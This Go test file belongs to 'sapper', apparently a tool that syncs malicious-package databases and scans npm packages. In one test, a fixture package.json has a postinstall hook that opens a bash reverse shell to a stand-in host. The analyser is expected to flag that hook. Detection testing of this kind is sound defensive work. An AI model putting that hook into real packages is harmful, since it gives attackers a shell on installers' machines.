package cli

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha512"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/sapperhq/sapper/internal/feed/feedtest"
)

// runCLI runs sapper in-process and returns the exit code and output.
func runCLI(t *testing.T, stdin string, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var out, errb bytes.Buffer
	e := &env{stdin: strings.NewReader(stdin), stdout: &out, stderr: &errb,
		log: slog.New(slog.NewTextHandler(&errb, nil))}
	code = main(context.Background(), args, e)
	return code, out.String(), errb.String()
}

// exampleZip builds an osv.dev-style all.zip of the npm records shipped in
// examples/, optionally with extra entries.
func exampleZip(t *testing.T, extra map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	root := "../../examples/malicious-packages/osv/malicious/npm"
	err := filepath.WalkDir(root, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		w, err := zw.Create(filepath.Base(p))
		if err != nil {
			return err
		}
		_, err = w.Write(b)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	for name, body := range extra {
		w, _ := zw.Create(name)
		io.WriteString(w, body)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// zipServer serves body at /all.zip with an ETag, answering 304 to a
// matching If-None-Match, and counts full downloads.
type zipServer struct {
	body      atomic.Pointer[[]byte]
	etag      atomic.Pointer[string]
	downloads atomic.Int32
	fail      atomic.Bool
}

func (z *zipServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if z.fail.Load() {
		http.Error(w, "upstream down", http.StatusInternalServerError)
		return
	}
	etag := *z.etag.Load()
	if r.Header.Get("If-None-Match") == etag {
		w.WriteHeader(http.StatusNotModified)
		return
	}
	z.downloads.Add(1)
	w.Header().Set("ETag", etag)
	w.Header().Set("Content-Type", "application/zip")
	w.Write(*z.body.Load())
}

func newZipServer(t *testing.T, body []byte, etag string) (*zipServer, string) {
	z := &zipServer{}
	z.body.Store(&body)
	z.etag.Store(&etag)
	srv := httptest.NewServer(z)
	t.Cleanup(srv.Close)
	return z, srv.URL + "/all.zip"
}

func stats(t *testing.T, db string) map[string]any {
	t.Helper()
	code, out, errOut := runCLI(t, "", "db", "stats", "--db", db, "--format", "json")
	if code != 0 {
		t.Fatalf("db stats: exit %d: %s", code, errOut)
	}
	var m map[string]any
	if err := json.Unmarshal([]byte(out), &m); err != nil {
		t.Fatal(err)
	}
	return m
}

func TestSyncConditional(t *testing.T) {
	db := filepath.Join(t.TempDir(), "sapper.db")
	z, url := newZipServer(t, exampleZip(t, nil), `"v1"`)

	code, out, errOut := runCLI(t, "", "db", "sync", "--db", db, "--source", url)
	if code != 0 {
		t.Fatalf("first sync: exit %d\n%s%s", code, out, errOut)
	}
	if !strings.Contains(out, "10 added") {
		t.Errorf("first sync output %q, want 10 added", out)
	}

	// Nothing changed upstream: a conditional request, no download.
	code, out, _ = runCLI(t, "", "db", "sync", "--db", db, "--source", url)
	if code != 0 || !strings.Contains(out, "1 not modified") || z.downloads.Load() != 1 {
		t.Errorf("second sync: exit %d, downloads %d, output %q; want a 304", code, z.downloads.Load(), out)
	}

	// A new record upstream with a new ETag.
	rec := `{"id":"MAL-2099-1","modified":"2099-01-01T00:00:00Z","affected":[{"package":{"ecosystem":"npm","name":"brand-new"},"versions":["1.0.0"]}]}`
	body := exampleZip(t, map[string]string{"MAL-2099-1.json": rec})
	z.body.Store(&body)
	etag := `"v2"`
	z.etag.Store(&etag)
	code, out, _ = runCLI(t, "", "db", "sync", "--db", db, "--source", url)
	if code != 0 || !strings.Contains(out, "1 added, 0 updated, 10 unchanged") {
		t.Errorf("third sync: exit %d, output %q", code, out)
	}
	if code, _, _ := runCLI(t, "", "check", "--db", db, "npm:brand-new@1.0.0"); code != exitFindings {
		t.Errorf("check of the synced record: exit %d, want %d", code, exitFindings)
	}
}

// TestSyncAtomic: when one source fails, nothing from the others lands.
func TestSyncAtomic(t *testing.T) {
	db := filepath.Join(t.TempDir(), "sapper.db")
	_, good := newZipServer(t, exampleZip(t, nil), `"g"`)
	bad, badURL := newZipServer(t, exampleZip(t, nil), `"b"`)
	bad.fail.Store(true)
	if code, _, errOut := runCLI(t, "", "db", "import", "--db", db, "../../examples/malicious-packages/osv/malicious/pypi"); code != 0 {
		t.Fatalf("import: %s", errOut)
	}

	code, _, errOut := runCLI(t, "", "db", "sync", "--db", db, "--source", good, "--source", badURL)
	if code != exitFailure {
		t.Fatalf("sync with a failing source: exit %d, want %d", code, exitFailure)
	}
	if !strings.Contains(errOut, "500") {
		t.Errorf("stderr %q does not name the status", errOut)
	}
	if n := stats(t, db)["records"]; n != float64(8) {
		t.Errorf("after a failed sync the database has %v records, want the 8 from before", n)
	}
	// No temporary download is left beside the database.
	ents, _ := os.ReadDir(filepath.Dir(db))
	for _, e := range ents {
		if strings.HasPrefix(e.Name(), "sync-") {
			t.Errorf("left behind %s", e.Name())
		}
	}
}

// TestCheckSyncsFirst: with no database, check downloads one, then checks.
func TestCheckSyncsFirst(t *testing.T) {
	db := filepath.Join(t.TempDir(), "sub", "sapper.db")
	_, url := newZipServer(t, exampleZip(t, nil), `"x"`)
	t.Setenv("SAPPER_SOURCES", url)
	code, out, errOut := runCLI(t, "", "check", "--db", db, "npm:license-header@0.0.1")
	if code != exitFindings {
		t.Fatalf("exit %d, want %d\n%s%s", code, exitFindings, out, errOut)
	}
	if !strings.Contains(errOut, "no database at") || !strings.Contains(out, "MAL-2022-4303") {
		t.Errorf("stderr %q / stdout %q", errOut, out)
	}
}

func TestExitCodes(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "sapper.db")
	if code, _, errOut := runCLI(t, "", "db", "import", "--db", db, "../../examples/malicious-packages"); code != 0 {
		t.Fatalf("import: exit %d: %s", code, errOut)
	}
	t.Setenv("SAPPER_SOURCES", "http://127.0.0.1:1/none.zip")
	tests := []struct {
		name string
		args []string
		want int
	}{
		{"clean", []string{"check", "--db", db, "npm:left-pad@1.3.0"}, exitOK},
		{"finding", []string{"check", "--db", db, "npm:@solana/web3.js@1.95.6"}, exitFindings},
		{"finding-and-bad-input", []string{"check", "--db", db, "npm:@solana/web3.js@1.95.6", "bogus"}, exitFindings},
		{"bad-input", []string{"check", "--db", db, "bogus"}, exitUsage},
		{"no-args", []string{"check", "--db", db}, exitUsage},
		{"bad-flag", []string{"check", "--bogus"}, exitUsage},
		{"help", []string{"check", "-h"}, exitOK},
		{"no-database-no-network", []string{"check", "--db", filepath.Join(dir, "none.db"), "npm:a@1"}, exitFailure},
		// The failed sync above left no empty database behind.
		{"stats-no-database", []string{"db", "stats", "--db", filepath.Join(dir, "none.db")}, exitFailure},
		{"import-missing-source", []string{"db", "import", "--db", db, filepath.Join(dir, "missing")}, exitUsage},
		{"import-not-osv", []string{"db", "import", "--db", db, "cli.go"}, exitUsage},
		{"sync-not-url", []string{"db", "sync", "--db", db, "--source", "file:///etc/passwd"}, exitUsage},
		{"unknown-command", []string{"bogus"}, exitUsage},
		{"version", []string{"version"}, exitOK},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if code, out, errOut := runCLI(t, "", tt.args...); code != tt.want {
				t.Errorf("sapper %s: exit %d, want %d\n%s%s", strings.Join(tt.args, " "), code, tt.want, out, errOut)
			}
		})
	}
}

// TestCheckStdinMany: "-" reads tens of thousands of packages.
func TestCheckStdinMany(t *testing.T) {
	db := filepath.Join(t.TempDir(), "sapper.db")
	runCLI(t, "", "db", "import", "--db", db, "../../examples/malicious-packages")
	var in strings.Builder
	for i := range 30_000 {
		fmt.Fprintf(&in, "npm:pkg-%d@1.0.%d\n", i, i)
	}
	in.WriteString("pkg:npm/%40solana/web3.js@1.95.7\n")
	code, out, errOut := runCLI(t, in.String(), "check", "--db", db, "--format", "json", "-")
	if code != exitFindings {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	var rep struct {
		Scanned  int `json:"packages_scanned"`
		Findings []struct {
			IDs []string `json:"ids"`
		} `json:"findings"`
	}
	if err := json.Unmarshal([]byte(out), &rep); err != nil {
		t.Fatal(err)
	}
	if rep.Scanned != 30_001 || len(rep.Findings) != 1 || rep.Findings[0].IDs[0] != "MAL-2024-11183" {
		t.Errorf("scanned %d, findings %+v", rep.Scanned, rep.Findings)
	}
}

// TestServe starts "sapper serve" on a free loopback port, queries it, and
// stops it with the context as a signal would.
func TestServe(t *testing.T) {
	db := filepath.Join(t.TempDir(), "sapper.db")
	runCLI(t, "", "db", "import", "--db", db, "../../examples/malicious-packages")
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	ln.Close()

	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan int)
	go func() {
		done <- main(ctx, []string{"serve", "--db", db, "--addr", addr}, quietEnv(nil))
	}()
	var resp *http.Response
	for range 100 {
		resp, err = http.Post("http://"+addr+"/v1/query", "application/json",
			strings.NewReader(`{"package":{"purl":"pkg:npm/%40solana/web3.js@1.95.7"}}`))
		if err == nil {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || !bytes.Contains(body, []byte(`"MAL-2024-11183"`)) {
		t.Errorf("query: %d %s", resp.StatusCode, body)
	}
	cancel()
	select {
	case code := <-done:
		if code != 0 {
			t.Errorf("serve exit %d after shutdown, want 0", code)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("serve did not shut down")
	}
}

// TestExportOSVScanner checks the export against what osv-scanner 2.5's
// --local-db-path reads (osv-scalibr's enricher/vulnmatch/osvlocal:
// <dir>/osv-scalibr/<OSV ecosystem>/all.zip, every *.json entry an OSV
// record). With osv-scanner on PATH it also runs it on the demo lockfile.
func TestExportOSVScanner(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "sapper.db")
	runCLI(t, "", "db", "import", "--db", db, "../../examples/malicious-packages")
	out := filepath.Join(dir, "export")
	if code, _, errOut := runCLI(t, "", "db", "export", "--db", db, "--format", "osv-zip", out); code != 0 {
		t.Fatalf("export: exit %d: %s", code, errOut)
	}
	want := map[string]int{"npm": 13, "PyPI": 8, "RubyGems": 3, "NuGet": 3, "Go": 3, "crates.io": 2, "Maven": 1}
	for eco, n := range want {
		zr, err := zip.OpenReader(filepath.Join(out, "osv-scalibr", eco, "all.zip"))
		if err != nil {
			t.Fatalf("%s: %v", eco, err)
		}
		if len(zr.File) != n {
			t.Errorf("%s/all.zip has %d entries, want %d", eco, len(zr.File), n)
		}
		for _, f := range zr.File {
			rc, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			var rec struct {
				ID       string `json:"id"`
				Affected []struct {
					Package struct{ Ecosystem string } `json:"package"`
				} `json:"affected"`
			}
			err = json.NewDecoder(rc).Decode(&rec)
			rc.Close()
			if err != nil || rec.ID+".json" != f.Name || strings.Contains(f.Name, "/") {
				t.Errorf("%s: entry %q: id %q, %v", eco, f.Name, rec.ID, err)
			}
			if len(rec.Affected) == 0 || rec.Affected[0].Package.Ecosystem != eco {
				t.Errorf("%s: entry %q names %+v", eco, f.Name, rec.Affected)
			}
		}
		zr.Close()
	}

	scanner, err := exec.LookPath("osv-scanner")
	if err != nil {
		t.Skip("osv-scanner not on PATH; the layout was checked against its reader's rules only")
	}
	cmd := exec.Command(scanner, "scan", "source", "--offline-vulnerabilities", "--local-db-path", out,
		"-L", "../../examples/demo/package-lock.json")
	got, _ := cmd.CombinedOutput() // exits 1 when it finds something
	if !bytes.Contains(got, []byte("MAL-2024-11183")) {
		t.Errorf("osv-scanner did not report MAL-2024-11183 from the export:\n%s", got)
	}
}

// TestMain lets a test run sapper as a child process: with
// SAPPER_CLI_CHILD=1 the test binary is sapper.
func TestMain(m *testing.M) {
	if os.Getenv("SAPPER_CLI_CHILD") == "1" {
		os.Exit(Main(context.Background(), os.Args[1:], os.Stdin, os.Stdout, os.Stderr))
	}
	os.Exit(m.Run())
}

// TestImportKilled kills "sapper db import" with SIGKILL while its
// transaction is writing, and checks that the database is as it was before.
func TestImportKilled(t *testing.T) {
	if testing.Short() {
		t.Skip("writes 20,000 records; skipped with -short")
	}
	dir := t.TempDir()
	db := filepath.Join(dir, "sapper.db")
	if code, _, errOut := runCLI(t, "", "db", "import", "--db", db, "../../examples/malicious-packages"); code != 0 {
		t.Fatalf("import: %s", errOut)
	}
	tree := filepath.Join(dir, "tree")
	if err := feedtest.Generate(tree, 20_000, 7); err != nil {
		t.Fatal(err)
	}

	cmd := exec.Command(os.Args[0], "db", "import", "--db", db, tree)
	cmd.Env = append(os.Environ(), "SAPPER_CLI_CHILD=1")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	// Wait until the import has written a good part of its transaction
	// into the write-ahead log, then kill it without warning.
	deadline := time.Now().Add(60 * time.Second)
	for {
		if fi, err := os.Stat(db + "-wal"); err == nil && fi.Size() > 4<<20 {
			break
		}
		if time.Now().After(deadline) {
			cmd.Process.Kill()
			t.Fatal("the import never wrote 4 MB to the write-ahead log")
		}
		time.Sleep(5 * time.Millisecond)
	}
	cmd.Process.Kill()
	if err := cmd.Wait(); err == nil {
		t.Fatal("the import finished before it was killed; nothing was tested")
	}

	s := stats(t, db)
	if s["records"] != float64(33) || s["withdrawn"] != float64(3) {
		t.Errorf("after a killed import: %v records, %v withdrawn; want the 33 and 3 from before", s["records"], s["withdrawn"])
	}
	if code, out, _ := runCLI(t, "", "check", "--db", db, "npm:@solana/web3.js@1.95.7"); code != exitFindings {
		t.Errorf("after a killed import the old records no longer match:\n%s", out)
	}
	// And the next import completes.
	if code, out, errOut := runCLI(t, "", "db", "import", "--db", db, tree); code != 0 {
		t.Errorf("import after the kill: exit %d\n%s%s", code, out, errOut)
	}
	if n := stats(t, db)["records"].(float64); n < 20_000 {
		t.Errorf("after the second import: %v records, want over 20,000", n)
	}
}

// TestColorOutput: colour only on a terminal, never with NO_COLOR set.
func TestColorOutput(t *testing.T) {
	var buf bytes.Buffer
	if colorOutput(&buf) {
		t.Errorf("colour for a buffer")
	}
	f, err := os.CreateTemp(t.TempDir(), "out")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if colorOutput(f) {
		t.Errorf("colour for a regular file")
	}
	t.Setenv("NO_COLOR", "")
	if colorOutput(os.Stdout) {
		t.Errorf("colour with NO_COLOR set")
	}
}

// TestAnalyzeRemote analyses npm:name@version fetched from a registry (an
// httptest stand-in for the npm registry), integrity checked.
func TestAnalyzeRemote(t *testing.T) {
	var tgz bytes.Buffer
	gz := gzip.NewWriter(&tgz)
	tw := tar.NewWriter(gz)
	for name, body := range map[string]string{
		"package/package.json": `{"name":"evil-pad","version":"1.0.0","scripts":{"postinstall":"bash -c 'bash -i >& /dev/tcp/shell.example.invalid/4444 0>&1'"}}`,
		"package/index.js":     "module.exports = 1;\n",
	} {
		tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg})
		tw.Write([]byte(body))
	}
	tw.Close()
	gz.Close()
	sum := sha512.Sum512(tgz.Bytes())
	var srv *httptest.Server
	srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/evil-pad/1.0.0":
			fmt.Fprintf(w, `{"dist":{"tarball":"%s/t.tgz","integrity":"sha512-%s"}}`, srv.URL, base64.StdEncoding.EncodeToString(sum[:]))
		case "/t.tgz":
			w.Write(tgz.Bytes())
		default:
			http.NotFound(w, r)
		}
	}))
	defer srv.Close()
	t.Setenv("SAPPER_NPM_REGISTRY", srv.URL)
	t.Setenv("XDG_CACHE_HOME", t.TempDir())
	t.Setenv("HOME", t.TempDir())
	code, out, errOut := runCLI(t, "", "analyze", "--format", "json", "npm:evil-pad@1.0.0")
	if code != exitFindings || !strings.Contains(out, `"verdict": "malicious"`) || !strings.Contains(out, `"rule": "reverse-shell-unix"`) {
		t.Errorf("exit %d\n%s%s", code, out, errOut)
	}
	code, out, _ = runCLI(t, "", "analyze", "npm:no-such-package@1.0.0")
	if code != exitUsage || !strings.Contains(out, "404") {
		t.Errorf("missing package: exit %d\n%s", code, out)
	}
}
